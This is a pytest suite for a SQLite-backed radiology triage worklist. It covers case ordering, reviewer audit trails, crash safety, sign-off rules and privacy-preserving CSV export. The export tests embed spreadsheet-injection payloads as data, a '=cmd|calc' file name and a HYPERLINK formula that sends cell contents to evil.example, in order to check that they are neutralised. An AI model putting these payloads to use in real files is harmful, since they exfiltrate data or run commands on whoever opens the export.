"""Worklist: ordering, filters, review + audit, append-only audit, concurrency, crash safety."""

from __future__ import annotations

import csv
import io
import os
import signal
import sqlite3
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from triage.records import CLASSES, Case
from triage.worklist import CaseNotFoundError, Worklist, WorklistError

REPO = Path(__file__).resolve().parents[1]
REQUIRED_COLUMNS = (
    "scan_id",
    "name",
    "stored_path",
    "received_at",
    "label",
    "p_no_tumor",
    "p_glioma",
    "p_meningioma",
    "p_pituitary",
    "risk",
    "flags",
    "ood",
    "tumor_area_px",
    "classifier_version",
    "segmenter_version",
    "review_status",
    "mask_rejected",
    "note",
    "extra",
)


def make_case(scan_id: str, risk: float = 0.5, label: str = "glioma", **kw: object) -> dict:
    """A complete case dict with probabilities that favour ``label``."""
    probs = {f"p_{c}": (0.7 if c == label else 0.1) for c in CLASSES}
    return {
        "scan_id": scan_id,
        "name": f"{scan_id}.png",
        "stored_path": f"/scans/{scan_id}.png",
        "label": label,
        "risk": risk,
        "flags": [],
        "ood": False,
        "tumor_area_px": 10,
        "classifier_version": "clf-1",
        "segmenter_version": "seg-1",
        **probs,
        **kw,
    }


def _ids(rows: list[Case]) -> list[str]:
    return [r.scan_id for r in rows]


@pytest.fixture()
def wl(tmp_path: Path) -> Worklist:
    return Worklist(tmp_path / "sub" / "worklist.sqlite3")


def test_lazy_creation_and_pragmas(tmp_path: Path) -> None:
    path = tmp_path / "a" / "b" / "wl.sqlite3"
    wl = Worklist(path)
    assert not path.parent.exists()  # no work in the constructor
    assert wl.count() == 0
    assert path.exists()
    with sqlite3.connect(path) as conn:
        assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
        assert conn.execute("PRAGMA user_version").fetchone()[0] >= 1
    assert wl.integrity_check() == "ok"


def test_ordering_by_risk_then_arrival(wl: Worklist) -> None:
    wl.add_case(make_case("low", 0.1, received_at="2024-01-01T00:00:00+00:00"))
    wl.add_case(make_case("high", 0.9, received_at="2024-01-03T00:00:00+00:00"))
    wl.add_case(make_case("mid-late", 0.5, received_at="2024-01-02T12:00:00+00:00"))
    wl.add_case(make_case("mid-early", 0.5, received_at="2024-01-02T00:00:00+00:00"))
    assert [c.scan_id for c in wl.list_cases()] == ["high", "mid-early", "mid-late", "low"]
    assert [c.scan_id for c in wl.list_cases(limit=2)] == ["high", "mid-early"]
    assert wl.neighbours("mid-early") == ("high", "mid-late")
    assert wl.neighbours("high") == (None, "mid-early")
    assert wl.neighbours("low") == ("mid-late", None)
    assert wl.neighbours("missing") == (None, None)


def test_get_decodes_and_extra(wl: Worklist) -> None:
    assert wl.add_case(make_case("a", flags=["uncertain", "ood"], thumbnail=b"\x89PNG", dice=0.8))
    case = wl.get("a")
    assert case is not None and not isinstance(case, sqlite3.Row)
    assert case.flags == ("uncertain", "ood")
    assert case.extra == {"dice": 0.8}
    assert case.thumbnail == b"\x89PNG"
    assert case.review_status == "unreviewed" and case.note == ""
    assert case.received_at.endswith("+00:00")
    assert wl.get("nope") is None


def test_filters_and_search(wl: Worklist) -> None:
    wl.add_case(make_case("g1", 0.9, "glioma", name="Patient_A.PNG", flags=["uncertain"]))
    wl.add_case(make_case("m1", 0.4, "meningioma", name="patient_b.dcm"))
    wl.add_case(make_case("n1", 0.0, "no_tumor", name="other.png", flags=["ood", "uncertain"]))
    assert _ids(wl.list_cases(label="glioma")) == ["g1"]
    assert _ids(wl.list_cases(flag="uncertain")) == ["g1", "n1"]
    assert _ids(wl.list_cases(flag="ood")) == ["n1"]
    assert _ids(wl.list_cases(search="PATIENT")) == ["g1", "m1"]
    assert _ids(wl.list_cases(search="patient", flag="uncertain")) == ["g1"]
    wl.review("m1", "dr_x", label="pituitary")
    # label filter uses the effective (reviewed) label
    assert _ids(wl.list_cases(label="pituitary")) == ["m1"]
    assert _ids(wl.list_cases(label="meningioma")) == []
    assert _ids(wl.list_cases(review_status="corrected")) == ["m1"]
    assert _ids(wl.list_cases(review_status="unreviewed")) == ["g1", "n1"]
    assert wl.neighbours("n1", flag="uncertain") == ("g1", None)
    with pytest.raises(WorklistError):
        wl.list_cases(label="tumour")


def test_duplicate_add_is_noop(wl: Worklist) -> None:
    assert wl.add_case(make_case("dup", 0.3))
    assert not wl.add_case(make_case("dup", 0.99, name="other.png"))
    case = wl.get("dup")
    assert case is not None and case.risk == 0.3 and case.name == "dup.png"
    assert wl.count() == 1
    assert [a["action"] for a in wl.audit("dup")] == ["added"]


def test_invalid_cases_rejected(wl: Worklist) -> None:
    with pytest.raises(WorklistError):
        wl.add_case(make_case("x", label="tumor"))
    with pytest.raises(WorklistError):
        wl.add_case({"scan_id": "y", "label": "glioma"})
    with pytest.raises(WorklistError):
        wl.add_case(make_case("z", risk=float("nan")))
    with pytest.raises(WorklistError):
        wl.add_case(make_case("w", review_status="signed_off"))
    assert wl.count() == 0 and wl.audit() == []


def test_review_writes_audit_and_status(wl: Worklist) -> None:
    wl.add_case(make_case("c", label="glioma"))
    case = wl.review("c", "dr_a")
    assert case.review_status == "confirmed" and case.reviewer == "dr_a"
    assert case.reviewed_label == "glioma" and case.reviewed_at
    case = wl.review("c", "dr_a", label="meningioma", mask_rejected=True, note="see prior")
    assert case.review_status == "corrected" and case.mask_rejected is True
    case = wl.review("c", "dr_b", sign_off=True)
    assert case.review_status == "signed_off" and case.reviewer == "dr_b"
    assert case.reviewed_label == "meningioma"

    rows = wl.audit("c")
    assert rows[0]["action"] == "added"
    changes = [(r["action"], r["field"], r["old_value"], r["new_value"], r["actor"]) for r in rows[1:]]
    assert ("review", "review_status", "unreviewed", "confirmed", "dr_a") in changes
    assert ("review", "reviewed_label", None, "glioma", "dr_a") in changes
    assert ("review", "reviewed_label", "glioma", "meningioma", "dr_a") in changes
    assert ("review", "mask_rejected", "0", "1", "dr_a") in changes
    assert ("review", "note", "", "see prior", "dr_a") in changes
    assert ("sign_off", "review_status", "corrected", "signed_off", "dr_b") in changes
    assert ("sign_off", "reviewer", "dr_a", "dr_b", "dr_b") in changes
    assert len(changes) == 3 + 4 + 2
    assert [r.scan_id for r in wl.reviewed_cases()] == ["c"]


def test_review_validation(wl: Worklist) -> None:
    wl.add_case(make_case("c"))
    with pytest.raises(WorklistError):
        wl.review("c", "dr_a", label="not_a_class")
    with pytest.raises(WorklistError):
        wl.review("c", "   ")
    with pytest.raises(CaseNotFoundError):
        wl.review("missing", "dr_a")
    case = wl.get("c")
    assert case is not None and case.review_status == "unreviewed"
    assert len(wl.audit("c")) == 1


def test_set_truth(wl: Worklist) -> None:
    wl.add_case(make_case("t"))
    case = wl.set_truth("t", "pituitary", "/masks/t.png", actor="importer")
    assert case.truth_label == "pituitary" and case.truth_mask_path == "/masks/t.png"
    truth = [r for r in wl.audit("t") if r["action"] == "truth"]
    assert {r["field"] for r in truth} == {"truth_label", "truth_mask_path"}
    with pytest.raises(WorklistError):
        wl.set_truth("t", "bogus")
    with pytest.raises(CaseNotFoundError):
        wl.set_truth("missing", "glioma")


def test_audit_is_append_only(wl: Worklist) -> None:
    wl.add_case(make_case("c"))
    with sqlite3.connect(wl.db_path) as conn:
        with pytest.raises(sqlite3.DatabaseError, match="append-only"):
            conn.execute("UPDATE audit SET actor = 'mallory'")
        with pytest.raises(sqlite3.DatabaseError, match="append-only"):
            conn.execute("DELETE FROM audit")
    assert [r["actor"] for r in wl.audit()] == ["system"]


def test_rejections_are_not_cases(wl: Worklist) -> None:
    wl.add_case(make_case("ok"))
    wl.log_rejection("bad.txt", "not an image", sha256="ab" * 32)
    wl.log_rejection("huge.tif", "too big")
    assert wl.count() == 1
    rej = wl.rejections()
    assert [r["name"] for r in rej] == ["huge.tif", "bad.txt"]
    assert rej[1]["sha256"] == "ab" * 32 and rej[0]["sha256"] is None
    assert len(wl.rejections(limit=1)) == 1


def test_persistence_across_instances(tmp_path: Path) -> None:
    path = tmp_path / "wl.sqlite3"
    Worklist(path).add_case(make_case("p", 0.7))
    Worklist(path).review("p", "dr_a", label="no_tumor")
    again = Worklist(path)
    case = again.get("p")
    assert again.count() == 1 and case is not None and case.review_status == "corrected"
    assert len(again.audit("p")) == 4


def test_export_csv(wl: Worklist) -> None:
    wl.add_case(make_case("e", name="=cmd|calc.png", flags=["uncertain", "ood"], thumbnail=b"png"))
    rows = list(csv.DictReader(io.StringIO(wl.export_csv(hide_names=False).decode("utf-8"))))
    assert len(rows) == 1 and "thumbnail" not in rows[0]
    assert rows[0]["scan_id"] == "e" and rows[0]["flags"] == "uncertain;ood"
    assert rows[0]["name"].startswith("'")  # no spreadsheet formula injection
    assert wl.export_csv([]).decode().strip().startswith("scan_id,")


def test_concurrent_threads_no_lost_update(wl: Worklist) -> None:
    errors: list[BaseException] = []

    def worker(t: int) -> None:
        try:
            for i in range(25):
                sid = f"t{t}-{i}"
                assert wl.add_case(make_case(sid, risk=(t * 25 + i) / 100))
                wl.review(sid, f"dr_{t}", label="meningioma")
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=worker, args=(t,)) for t in range(4)]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    assert not errors
    assert wl.count() == 100
    assert len(wl.reviewed_cases()) == 100
    # per case: 'added' + reviewed_label, review_status, reviewer
    assert len(wl.audit()) == 100 * 4
    assert wl.integrity_check() == "ok"


CHILD = """
import sys
from triage.worklist import Worklist
wl = Worklist(sys.argv[1])
i = 0
while True:
    sid = f"k{i}"
    wl.add_case({"scan_id": sid, "name": sid, "label": "glioma", "risk": i / 1000,
                 "p_no_tumor": 0.1, "p_glioma": 0.7, "p_meningioma": 0.1, "p_pituitary": 0.1,
                 "flags": ["uncertain"], "thumbnail": bytes(2000), "extra": {"i": i}})
    print(sid, flush=True)
    i += 1
"""


def test_crash_safety_sigkill(tmp_path: Path) -> None:
    path = tmp_path / "crash.sqlite3"
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    proc = subprocess.Popen(
        [sys.executable, "-c", CHILD, str(path)], stdout=subprocess.PIPE, text=True, env=env, cwd=REPO
    )
    watchdog = threading.Timer(30, proc.kill)
    watchdog.start()
    printed: list[str] = []
    try:
        assert proc.stdout is not None
        while len(printed) < 40:
            line = proc.stdout.readline()
            if not line:
                break
            printed.append(line.strip())
        os.kill(proc.pid, signal.SIGKILL)
        printed += [ln.strip() for ln in proc.stdout.read().splitlines() if ln.strip()]
        proc.wait(timeout=10)
    finally:
        watchdog.cancel()
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == -signal.SIGKILL
    assert len(printed) >= 40

    wl = Worklist(path)
    assert wl.integrity_check() == "ok"
    n = wl.count()
    assert len(printed) <= n <= len(printed) + 1  # at most one commit not yet reported
    assert {c.scan_id for c in wl.list_cases()} >= set(printed)
    with sqlite3.connect(path) as conn:
        for col in REQUIRED_COLUMNS:
            assert conn.execute(f"SELECT COUNT(*) FROM cases WHERE {col} IS NULL").fetchone()[0] == 0
        assert conn.execute("SELECT COUNT(*) FROM audit WHERE action = 'added'").fetchone()[0] == n


def test_a_stale_save_is_refused_and_changes_nothing(wl: Worklist) -> None:
    """Two readers open revision 0; A signs off; B's correction from the stale page is refused."""
    from triage.worklist import ReviewConflictError

    wl.add_case(make_case("c", label="glioma"))
    opened = wl.get("c").revision
    assert opened == 0
    signed = wl.review("c", "dr_a", sign_off=True, expected_revision=opened)
    assert signed.revision == 1
    with pytest.raises(ReviewConflictError, match="changed since you opened it") as info:
        wl.review("c", "dr_b", label="meningioma", note="B's note", expected_revision=opened)
    assert info.value.case.review_status == "signed_off"
    case = wl.get("c")
    assert case.review_status == "signed_off" and case.reviewer == "dr_a" and case.note == ""
    assert not [a for a in wl.audit("c") if a["actor"] == "dr_b"]


def test_a_sign_off_is_final_and_remarks_are_addenda(wl: Worklist) -> None:
    from triage.worklist import SignedOffError

    wl.add_case(make_case("c", label="glioma"))
    wl.review("c", "dr_a", label="meningioma", note="signed text", sign_off=True)
    with pytest.raises(SignedOffError, match="read-only"):
        wl.review("c", "dr_b", label="glioma")
    case = wl.addendum("c", "dr_b", "Follow-up MRI in 3 months.")
    assert case.reviewed_label == "meningioma" and case.note == "signed text"
    assert case.review_status == "signed_off" and case.revision == 2
    (add,) = wl.addenda("c")
    assert (add["actor"], add["new_value"]) == ("dr_b", "Follow-up MRI in 3 months.")
    wl.add_case(make_case("d"))
    with pytest.raises(WorklistError, match="signed-off"):
        wl.addendum("d", "dr_b", "too early")
    with pytest.raises(WorklistError, match="some text"):
        wl.addendum("c", "dr_b", "  ")


def test_a_v1_worklist_is_migrated_with_its_reviews(tmp_path: Path) -> None:
    from triage import worklist as wmod

    db = tmp_path / "old.sqlite3"
    with sqlite3.connect(db) as conn:  # a worklist as the previous release left it
        for statement in wmod._SCHEMA_V1:
            conn.execute(statement)
        conn.execute("PRAGMA user_version = 1")
        conn.execute(
            "INSERT INTO cases (scan_id, received_at, label, p_no_tumor, p_glioma, p_meningioma, p_pituitary, risk,"
            " review_status, note) VALUES ('old', '2026-01-01T00:00:00+00:00', 'glioma', .1, .7, .1, .1, .9,"
            " 'confirmed', 'kept')"
        )
    case = Worklist(db).get("old")
    assert case.revision == 0 and case.note == "kept" and case.review_status == "confirmed"
    assert Worklist(db).review("old", "dr_a", note="new", expected_revision=0).revision == 1


def test_export_csv_a_bare_cr_in_a_note_cannot_forge_a_row(wl: Worklist) -> None:
    """Issue 22 item 13: CR (and LF) in a note stay inside their cell; nothing becomes a formula row."""
    wl.add_case(make_case("a", name="a.png"))
    wl.add_case(make_case("b", name="b.png", risk=0.2))
    wl.review("a", "Dr A", note='fine\r=HYPERLINK("http://evil.example/?x="&A1,"open")\rsecond')
    wl.review("b", "Dr B", note="line 1\nline 2\r\n@SUM(1)")
    data = wl.export_csv(hide_names=False)
    assert b"\r" not in data  # a bare CR is a row break to Excel and LibreOffice
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert len(rows) == 3 and all(len(r) == len(rows[0]) for r in rows)
    note = rows[0].index("note")
    assert rows[1][note] == 'fine\n=HYPERLINK("http://evil.example/?x="&A1,"open")\nsecond'
    assert rows[2][note] == "line 1\nline 2\n@SUM(1)"
    assert all(r[0] in ("a", "b") for r in rows[1:])  # no forged row starting elsewhere


def test_export_csv_hides_file_names_by_default(wl: Worklist, monkeypatch) -> None:
    """Issue 22 item 13: without allow_phi, the export names a case by its id, not its file name."""
    monkeypatch.delenv("TRIAGE_HIDE_FILE_NAMES", raising=False)
    monkeypatch.delenv("TRIAGE_ALLOW_PHI", raising=False)
    wl.add_case(make_case("0123456789abcdef", name="Doe^John_19310417_MRN12345.png"))
    data = wl.export_csv().decode()
    assert "Doe" not in data and "MRN12345" not in data
    assert next(iter(csv.DictReader(io.StringIO(data))))["name"] == "case 0123456789ab"
    monkeypatch.setenv("TRIAGE_ALLOW_PHI", "1")
    assert "Doe^John_19310417_MRN12345.png" in wl.export_csv().decode()


def test_search_by_case_id(wl: Worklist) -> None:
    wl.add_case(make_case("abc123", name="x.png"))
    wl.add_case(make_case("def456", name="abc.png"))
    assert _ids(wl.list_cases(search="abc", search_in="scan_id")) == ["abc123"]
    assert _ids(wl.list_cases(search="abc")) == ["def456"]
    with pytest.raises(WorklistError):
        wl.list_cases(search="x", search_in="note")
